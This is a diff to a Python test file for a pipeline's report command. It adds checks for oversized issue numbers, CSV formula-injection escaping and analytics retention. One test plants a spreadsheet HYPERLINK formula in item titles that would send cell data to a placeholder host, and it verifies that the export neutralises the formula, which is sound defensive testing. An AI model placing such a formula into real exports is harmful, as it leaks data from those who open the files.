@@ -5,7 +5,11 @@ from __future__ import annotations
 import csv
 import io
 import json
+from datetime import timedelta
 
+import sqlalchemy as sa
+
+from pipeline import db
 from tests.conftest import Project
 from tests.report.conftest import AUFTAKT, CALENDAR
 
@@ -96,6 +100,9 @@ def test_an_unknown_issue_is_named_in_one_line(reported: Project) -> None:
     assert result.stderr.strip() == "error: issue 9 does not exist"
     both = reported.run("report", "--json", "--csv", check=False)
     assert both.returncode == 2 and "--json and --csv" in both.stderr
+    beyond = reported.run("report", "99999999999", check=False)  # more than PostgreSQL's int
+    assert beyond.returncode == 1
+    assert beyond.stderr.strip() == "error: issue 99999999999 does not exist"
     language = reported.run("report", "--lang", "fr", check=False)
     assert language.returncode == 2 and "--lang" in language.stderr
 
@@ -125,3 +132,30 @@ def test_report_before_any_issue_says_so(project: Project) -> None:
     result = project.run("report", check=False)
     assert result.returncode == 1
     assert result.stderr.strip() == "error: no issue has been built yet"
+
+
+def test_a_csv_cell_from_a_feed_never_runs_as_a_spreadsheet_formula(reported: Project) -> None:
+    engine = db.make_engine(reported.config().database.url)
+    try:
+        with engine.begin() as connection:
+            connection.execute(sa.update(db.items).values(title='=HYPERLINK("http://x/?"&A1,"x")'))
+    finally:
+        engine.dispose()
+    rows = list(csv.DictReader(io.StringIO(reported.run("report", "1", "--csv").stdout)))
+    titled = [row["item"] for row in rows if row["item"]]
+    assert titled and all(title.startswith("'=HYPERLINK(") for title in titled)
+
+
+def test_an_issue_past_the_retention_says_its_readers_are_no_longer_known(
+    reported: Project,
+) -> None:
+    reported.edit_config(lambda raw: raw.update(analytics={"retention_days": 1}))
+    engine = db.make_engine(reported.config().database.url)
+    try:
+        with engine.begin() as connection:
+            connection.execute(sa.update(db.issues).values(created_at=db.now() - timedelta(days=2)))
+    finally:
+        engine.dispose()
+    text = " ".join(reported.run("report", "1", "--lang", "en").stdout.split())
+    assert "its clicks no longer name anyone" in text
+    assert json.loads(reported.run("report", "1", "--json").stdout)["readers_kept"] is False
